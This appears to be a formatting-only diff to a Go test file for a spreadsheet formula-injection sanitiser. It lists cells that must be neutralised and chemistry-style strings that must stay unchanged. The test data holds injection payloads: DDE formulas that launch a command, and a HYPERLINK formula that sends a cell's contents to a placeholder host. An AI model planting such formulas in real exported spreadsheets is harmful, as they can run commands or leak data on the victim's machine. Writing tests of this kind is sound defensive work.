@@ -12,12 +12,14 @@ import (
 
 // formulas are cells that a spreadsheet would calculate, to somebody's harm.
 var formulas = []string{
-	"=cmd|' /C calc'!A0", `=HYPERLINK("http://x/?"&A1,"more")`, "+SUM(1;2)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|'/C calc'!A0",
+	"=cmd|' /C calc'!A0",
+	`=HYPERLINK("http://x/?"&A1,"more")`, "+SUM(1;2)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|'/C calc'!A0",
 	"\t=WEBSERVICE(A1)", " =x.xlsx!name", "＝IMPORTXML(A1)", "=DDE (\"cmd\";A1)",
 }
 
 // notFormulas are cells that begin like a formula, and are to stay as they are.
-var notFormulas = []string{"-", "-0.5", "+1,5", "-CH3", "=O", "-OCH3", "@home", "+/-(trans)", "(-)-menthol", "'quoted'", "'", "", "CC(=O)O", "C[C@@H](N)C=O |r|"}
+var notFormulas = []string{"-", "-0.5", "+1,5", "-CH3", "=O", "-OCH3", "@home", "+/-(trans)", "(-)-menthol",
+	"'quoted'", "'", "", "CC(=O)O", "C[C@@H](N)C=O |r|"}
 
 func TestPlain(t *testing.T) {
 	for _, f := range formulas {
